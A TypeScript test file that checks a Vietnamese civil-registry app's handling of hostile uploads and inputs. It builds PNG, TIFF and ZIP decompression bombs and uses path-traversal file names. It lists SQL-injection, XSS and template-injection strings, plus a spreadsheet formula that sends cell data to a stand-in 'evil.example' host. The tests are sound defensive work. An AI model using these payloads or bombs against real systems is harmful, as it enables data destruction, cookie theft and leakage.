// Hostile and malformed input (issue 9): every case is refused with a clear code (vi + en) and
// writes nothing, or is stored as plain text and never interpreted. HTTP-level cases (upload limit,
// CSRF, headers, throttling, logs) are in tests/e2e/hostile.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { strFromU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z, type ZodType } from 'zod';
import { forEachDatabase, type DatabaseContext } from './databases';
import { addUser, createBook, createEntry, refusal, TAN_LAP, DAK_LAK } from './fixtures';
import { writeScanFiles, type ScanFiles } from './scan-files';
import { captureIo } from './cli-harness';
import { importBook } from '../../src/cli/commands/import-book';
import { openScanFile } from '../../src/lib/ocr/page-source';
import { jobHandlers } from '../../src/lib/server/jobs/handlers';
import { JobRunner } from '../../src/lib/server/jobs/job-runner';
import { readFailure } from '../../src/lib/server/jobs/job-failure';
import { verifyAudit } from '../../src/lib/server/audit/audit-log';
import { AppError } from '../../src/lib/server/errors';
import { jsonDepth, MAX_JSON_BYTES, readJson, readOptionalJson } from '../../src/lib/server/http';
import * as apiSchemas from '../../src/lib/server/api-schemas';
import * as reconcileSchemas from '../../src/lib/server/reconcile-schemas';
import { buildWorkbook } from '../../src/lib/server/export/package-files';
import { archiveLimits } from '../../src/lib/server/residents/archive-guard';
import { MAX_LINE_CHARS } from '../../src/lib/server/residents/extract-reader';
import { uploadName } from '../../src/lib/server/upload-name';
import { fieldKeys } from '../../src/lib/registers/index';
import { hasMessage, t as tr } from '../../src/lib/i18n/index';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sohoa-hostile-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

/** A refusal's code, and that it reads in both languages. */
function expectCode(e: AppError, code: string) {
	expect(e.code).toBe(code);
	expect(hasMessage(code), `${code} has a message`).toBe(true);
	// Every placeholder filled: no "{name}" left.
	expect(tr('vi', e.code, e.params)).not.toMatch(/\{\w+\}/);
	expect(tr('en', e.code, e.params)).not.toMatch(/\{\w+\}/);
}

const write = (name: string, bytes: Uint8Array | string) => {
	const file = path.join(tmp, name);
	fs.writeFileSync(file, bytes);
	return file;
};

/** A TIFF header for a 100000 × 100000 grey image backed by a few bytes (a decompression bomb). */
function tiffBomb(): Buffer {
	const data = deflateSync(Buffer.alloc(4096));
	const tags: [number, number, number][] = [
		// tag, type (3 SHORT, 4 LONG), value
		[256, 4, 100_000],
		[257, 4, 100_000],
		[258, 3, 8],
		[259, 3, 8],
		[262, 3, 1],
		[273, 4, 0], // strip offset, filled below
		[277, 3, 1],
		[278, 4, 100_000],
		[279, 4, data.length]
	];
	const ifdSize = 2 + tags.length * 12 + 4;
	const dataOffset = 8 + ifdSize;
	const b = Buffer.alloc(dataOffset);
	b.write('II*\0', 0, 'latin1');
	b.writeUInt32LE(8, 4);
	b.writeUInt16LE(tags.length, 8);
	tags.forEach(([tag, type, value], i) => {
		const at = 10 + i * 12;
		b.writeUInt16LE(tag, at);
		b.writeUInt16LE(type, at + 2);
		b.writeUInt32LE(1, at + 4);
		const v = tag === 273 ? dataOffset : value;
		if (type === 3) b.writeUInt16LE(v, at + 8);
		else b.writeUInt32LE(v, at + 8);
	});
	return Buffer.concat([b, data]);
}

/** Files in a directory tree (the blob store). */
function fileCount(dir: string): number {
	if (!fs.existsSync(dir)) return 0;
	return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())
		.length;
}

async function countRows(
	t: DatabaseContext,
	table: 'page' | 'job' | 'resident' | 'resident_extract'
) {
	const r = await t.services.database.db
		.selectFrom(table)
		.select((eb) => eb.fn.countAll<number>().as('n'))
		.executeTakeFirstOrThrow();
	return Number(r.n);
}

/** 1 GiB of "a" and no newline, written once for both databases. */
let oneLine: string | undefined;
function oneLineFile(): string {
	if (oneLine) return oneLine;
	const file = path.join(tmp, 'one-line.csv');
	const block = Buffer.alloc(16 * 1024 ** 2, 'a');
	const fd = fs.openSync(file, 'w');
	try {
		for (let i = 0; i < 64; i++) fs.writeSync(fd, block);
	} finally {
		fs.closeSync(fd);
	}
	return (oneLine = file);
}

/** 32 MB of zeros in a workbook's clothes, packed to some 32 KB. */
let zipBomb: Uint8Array | undefined;
const bombOnce = () =>
	(zipBomb ??= zipSync({
		'[Content_Types].xml': new TextEncoder().encode('<Types/>'),
		'xl/workbook.xml': new TextEncoder().encode('<workbook/>'),
		'xl/worksheets/sheet1.xml': new Uint8Array(32 * 1024 ** 2)
	}));

let scans: ScanFiles;
const hostileScans: Record<string, { file: () => string; code: string }> = {};

beforeAll(async () => {
	scans = await writeScanFiles(tmp);
	const pdf = fs.readFileSync(scans.pdf);
	Object.assign(hostileScans, {
		'random bytes behind .png': { file: () => scans.random, code: 'ocr.unsupportedFormat' },
		'an HTML page behind .pdf': {
			file: () => write('page.pdf', '<html><script>alert(1)</script></html>'),
			code: 'ocr.unsupportedFormat'
		},
		'a ZIP behind .tif': {
			file: () => write('archive.tif', zipSync({ 'a.txt': new Uint8Array(10) })),
			code: 'ocr.unsupportedFormat'
		},
		'a truncated PDF': {
			file: () => write('truncated.pdf', pdf.subarray(0, Math.floor(pdf.length / 3))),
			code: 'ocr.pdfCorrupt'
		},
		'a truncated JPEG': { file: () => scans.truncatedJpg, code: 'ocr.corruptImage' },
		'an encrypted PDF': { file: () => scans.encryptedPdf, code: 'ocr.pdfEncrypted' },
		'a PNG decompression bomb': { file: () => scans.pixelBomb, code: 'ocr.tooManyPixels' },
		'a TIFF decompression bomb': {
			file: () => write('bomb.tif', tiffBomb()),
			code: 'ocr.tooManyPixels'
		}
	});
}, 60_000);

forEachDatabase('hostile input', (t) => {
	describe('scan uploads (book import): a clear code, no page, no stored image, no job', () => {
		const cases = [
			'random bytes behind .png',
			'an HTML page behind .pdf',
			'a ZIP behind .tif',
			'a truncated PDF',
			'a truncated JPEG',
			'an encrypted PDF',
			'a PNG decompression bomb',
			'a TIFF decompression bomb'
		];
		it.each(cases)('%s', async (name) => {
			const c = hostileScans[name]!;
			const before = {
				pages: await countRows(t, 'page'),
				jobs: await countRows(t, 'job'),
				blobs: fileCount(path.join(t.dataDir, 'blobs'))
			};
			// What the scan reader says about the file…
			const scan = await openScanFile(c.file());
			let error = 'error' in scan ? scan.error : null;
			for (const p of 'pages' in scan ? scan.pages : []) {
				const page = await p.read();
				if ('error' in page) error ??= page.error;
			}
			expect(error?.code).toBe(c.code);
			// …is what the import reports, in both languages, storing nothing.
			const cap = captureIo();
			const code = await importBook(
				t.services,
				{
					files: [c.file()],
					book: { unitCode: TAN_LAP, registerType: 'birth', bookNumber: '1', year: 2008 }
				},
				cap.io
			);
			expect(code).toBe(1);
			expect(cap.err()).toContain(tr('en', error!.code, error!.params));
			expect(cap.err()).toContain(tr('vi', error!.code, error!.params));
			expect(await countRows(t, 'page')).toBe(before.pages);
			expect(await countRows(t, 'job')).toBe(before.jobs);
			expect(fileCount(path.join(t.dataDir, 'blobs'))).toBe(before.blobs);
		});
	});

	describe('resident extracts (upload → job): refused with a reason, no resident written', () => {
		async function importUpload(fileName: string, bytes: Uint8Array) {
			const s = t.services;
			const admin = await addUser(s, 'admin', DAK_LAK);
			const before = {
				residents: await countRows(t, 'resident'),
				extracts: await countRows(t, 'resident_extract')
			};
			const jobId = await s.residentImports.queue(admin, { unitCode: TAN_LAP, fileName, bytes });
			const handlers = jobHandlers(s);
			try {
				// Run the queue until this job is over (a refused earlier job may be retried first).
				const runner = new JobRunner(s.jobs, handlers.handlers);
				for (let i = 0; i < 10 && /queued|running/.test((await s.jobs.get(jobId))!.state); i++)
					await runner.runOnce();
			} finally {
				await handlers.close();
			}
			const job = await s.jobs.get(jobId);
			return { job, before, admin };
		}

		/** The reader the import job uses, on the file as uploaded: the refusal, nothing written. */
		async function expectRefused(fileName: string, bytes: Uint8Array, code: string) {
			const s = t.services;
			const admin = await addUser(s, 'admin', DAK_LAK);
			const before = {
				residents: await countRows(t, 'resident'),
				extracts: await countRows(t, 'resident_extract')
			};
			const file = write(fileName, bytes);
			const e = await refusal(s.residents.importFile(admin, { unitCode: TAN_LAP, file }));
			expectCode(e, code);
			expect(await countRows(t, 'resident')).toBe(before.residents);
			expect(await countRows(t, 'resident_extract')).toBe(before.extracts);
			return e;
		}

		it('a PNG behind .csv: the layout is not an extract', async () => {
			await expectRefused('trich-xuat.csv', fs.readFileSync(scans.jpg), 'resident.unknownLayout');
		});

		it('a zip bomb behind .xlsx is refused before the spreadsheet reader opens it', async () => {
			const bomb = bombOnce();
			expect(bomb.length * archiveLimits.maxRatio).toBeLessThan(32 * 1024 ** 2);
			const e = await expectRefused('bom.xlsx', bomb, 'resident.archiveTooLarge');
			// Uploaded on the admin page, the job fails with the same coded reason (the page translates it).
			const { job, before } = await importUpload('bom.xlsx', bomb);
			expect(readFailure(job?.error ?? null)).toEqual({ code: e.code, params: e.params });
			expect(await countRows(t, 'resident')).toBe(before.residents);
		});

		it('a zip that is not a workbook is refused as such', async () => {
			const notWorkbook = zipSync({ 'ho-so.csv': new TextEncoder().encode('a;b\n1;2\n') });
			await expectRefused('ho-so.xlsx', notWorkbook, 'resident.notSpreadsheet');
		});

		it('a path-traversal file name is kept as its last part, and nothing lands outside', async () => {
			const escape = path.join(os.tmpdir(), 'sohoa-escaped.csv');
			fs.rmSync(escape, { force: true });
			const { job } = await importUpload(
				`../../../../../../..${escape}`,
				new TextEncoder().encode('Họ và tên;Ngày sinh\nLê Thị Cúc;01/02/1990\n')
			);
			expect(job?.state, job?.error ?? '').toBe('done');
			expect(JSON.parse(job!.payload)).toMatchObject({ fileName: 'sohoa-escaped.csv' });
			expect(fs.existsSync(escape)).toBe(false);
			expect(uploadName('..\\..\\windows\\win.ini')).toBe('win.ini');
			expect(uploadName('..')).toBe('upload');
			expect(uploadName('a\u0000b\nc.csv')).toBe('abc.csv');
		});

		it('formula injection in an extract is stored as text, character for character', async () => {
			const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
			const { job } = await importUpload(
				'cong-thuc.csv',
				new TextEncoder().encode(
					`Họ và tên;Ngày sinh\n"${formula.replaceAll('"', '""')}";01/02/1990\n`
				)
			);
			expect(job?.state, job?.error ?? '').toBe('done');
			const row = await t.services.database.db
				.selectFrom('resident')
				.select('full_name')
				.where('full_name', 'like', '=HYPERLINK%')
				.executeTakeFirstOrThrow();
			expect(row.full_name).toBe(formula);
		});

		it('a UTF-16 extract (Excel\'s "Unicode text") is read, not mangled', async () => {
			const text = 'Họ và tên\tNgày sinh\nPhạm Thị Hồng Nhung\t03/04/1991\n';
			const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
			const { job } = await importUpload('unicode.txt', utf16);
			expect(job?.state, job?.error ?? '').toBe('done');
			const row = await t.services.database.db
				.selectFrom('resident')
				.select('full_name')
				.where('full_name', '=', 'Phạm Thị Hồng Nhung')
				.executeTakeFirst();
			expect(row).toBeDefined();
		});
	});

	describe('a file of 1 GB on one line (CLI import, streamed from disk)', () => {
		it('is refused at the line limit without reading it into memory; nothing written', async () => {
			// Both databases read the same file; the folder goes at the end.
			const file = oneLineFile();
			expect(fs.statSync(file).size).toBe(1024 ** 3);
			const s = t.services;
			const admin = await addUser(s, 'admin', DAK_LAK);
			const before = await countRows(t, 'resident');
			const heap = process.memoryUsage().heapUsed;
			const e = await refusal(s.residents.importFile(admin, { unitCode: TAN_LAP, file }));
			expectCode(e, 'resident.lineTooLong');
			expect(e.params).toMatchObject({ row: 1, max: MAX_LINE_CHARS });
			expect(process.memoryUsage().heapUsed - heap).toBeLessThan(200 * 1024 ** 2);
			expect(await countRows(t, 'resident')).toBe(before);
		}, 60_000);
	});

	describe('injection strings in every text field', () => {
		const hostile = [
			"'; DROP TABLE entry; --",
			'" OR 1=1 --',
			"Robert'); DELETE FROM audit_log; --",
			'<script>alert(document.cookie)</script>',
			'<img src=x onerror=alert(1)>',
			'{{constructor.constructor("alert(1)")()}}',
			'=HYPERLINK("http://evil.example","x")',
			'\u202eevil\u200b\ud83d\ude00'
		];

		it('are stored as text, read back unchanged, and the audit chain still verifies', async () => {
			const s = t.services;
			const clerk = await addUser(s, 'clerk', TAN_LAP);
			const book = await createBook(s.database.db, TAN_LAP);
			const id = await createEntry(s.database.db, book);
			const keys = fieldKeys('birth');
			const fields = Object.fromEntries(keys.map((k, i) => [k, hostile[i % hostile.length]!]));
			const saved = await s.entries.update(clerk, id, { version: 1, fields });
			expect(saved.version).toBe(2);
			const read = await s.entries.get(clerk, id);
			for (const k of keys) expect(read.fields[k]?.value, k).toBe(fields[k]);
			// The tables the strings name are untouched.
			expect(await countRows(t, 'page')).toBeGreaterThanOrEqual(0);
			const audit = await verifyAudit(s.database.db);
			expect(audit.ok).toBe(true);
		});
	});
});

describe('JSON bodies (the one reader every /api/v1 route uses)', () => {
	const post = (body: BodyInit | null, headers: Record<string, string> = {}) =>
		new Request('http://localhost/api/v1/x', {
			method: 'POST',
			headers: { 'content-type': 'application/json', ...headers },
			body,
			// Node's Request needs this for a streamed body.
			...(body instanceof ReadableStream ? { duplex: 'half' } : {})
		} as RequestInit);
	const refused = async (p: Promise<unknown>, status: number, code: string) => {
		const e = await refusal(p);
		expect(e.status).toBe(status);
		expectCode(e, code);
	};
	const patch = apiSchemas.patchEntryBody;

	it('an oversized body, declared or streamed without a length: 413', async () => {
		const big = JSON.stringify({ version: 1, fields: { a: 'x'.repeat(MAX_JSON_BYTES) } });
		await refused(readJson(post(big), patch), 413, 'http.tooLarge');
		let sent = 0;
		const stream = new ReadableStream<Uint8Array>({
			pull(c) {
				if (sent++ > 40) c.close();
				else c.enqueue(new Uint8Array(64 * 1024).fill(0x20));
			}
		});
		const streamed = post(stream);
		expect(streamed.headers.get('content-length')).toBeNull();
		await refused(readJson(streamed, patch), 413, 'http.tooLarge');
	});

	it('deeply nested JSON: 400 before it is parsed', async () => {
		const deep = '['.repeat(100_000) + ']'.repeat(100_000);
		await refused(readJson(post(deep), patch), 400, 'http.tooDeep');
		expect(jsonDepth('{"a":"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["}')).toBe(1);
		expect(jsonDepth('{"a":"\\"[[[[[[","b":[[1]]}')).toBe(3);
	});

	it('not JSON, or not declared JSON (a cross-site form): 400 / 415', async () => {
		await refused(readJson(post('{"version": 1,'), patch), 400, 'http.badJson');
		await refused(
			readJson(post('{"version":1,"fields":{}}', { 'content-type': 'text/plain' }), patch),
			415,
			'http.notJson'
		);
		await refused(
			readOptionalJson(
				post('{"version":1}', { 'content-type': 'application/x-www-form-urlencoded' }),
				apiSchemas.transitionBody
			),
			415,
			'http.notJson'
		);
		// An empty optional body is still fine.
		expect(await readOptionalJson(post(null), apiSchemas.transitionBody)).toEqual({});
	});

	it('a NUL character anywhere (PostgreSQL text cannot hold it): 422', async () => {
		await refused(
			readJson(post('{"version":1,"fields":{"nksHoTen":"An\\u0000"}}'), patch),
			422,
			'http.nulCharacter'
		);
		await refused(
			readJson(post('{"version":1,"fields":{"a\\u0000":"x"}}'), patch),
			422,
			'http.nulCharacter'
		);
	});

	it('wrong types: 422 naming the field', async () => {
		const e = await refusal(readJson(post('{"version":"1","fields":{"a":5}}'), patch));
		expect(e.status).toBe(422);
		expect(String(e.params.detail)).toContain('version');
	});

	it('every API body schema refuses unknown fields', async () => {
		const schemas = Object.entries({ ...apiSchemas, ...reconcileSchemas }).filter(
			([, v]) => v instanceof z.ZodType
		) as [string, ZodType][];
		expect(schemas.length).toBeGreaterThanOrEqual(8);
		for (const [name, schema] of schemas) {
			if (!(schema instanceof z.ZodObject)) continue;
			const r = schema.safeParse({ isAdmin: true });
			expect(r.success, name).toBe(false);
			expect(
				r.error!.issues.some((i) => i.code === 'unrecognized_keys'),
				`${name} refuses an unknown key`
			).toBe(true);
		}
	});
});

describe('the export workbook (the one XLSX writer)', () => {
	it('keeps a formula-like value a text cell, quote-prefixed, never a formula', async () => {
		const formula = '=HYPERLINK("http://evil.example","Bấm")';
		const xlsx = await buildWorkbook(
			['STT', 'HoTen', 'GhiChu'],
			[
				[1, formula, '+1+2'],
				[2, '@SUM(A1:A2)', '-1-2']
			]
		);
		const parts = unzipSync(xlsx);
		const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
		const strings = strFromU8(parts['xl/sharedStrings.xml']!);
		const styles = strFromU8(parts['xl/styles.xml']!);
		expect(sheet).not.toContain('<f>');
		expect(strings).toContain('=HYPERLINK(&quot;http://evil.example&quot;,&quot;Bấm&quot;)');
		// The value cells are shared strings, in a style that Excel keeps as text when edited.
		const cell = /<c r="B2" s="(\d+)" t="s">/.exec(sheet);
		expect(cell, sheet).not.toBeNull();
		const xfs = /<cellXfs[^>]*>(.*)<\/cellXfs>/.exec(styles)![1]!.match(/<xf [^>]*>/g)!;
		expect(xfs[Number(cell![1])]).toContain('quotePrefix="1"');
		expect(xfs[Number(cell![1])]).toContain('numFmtId="49"');
	});
});
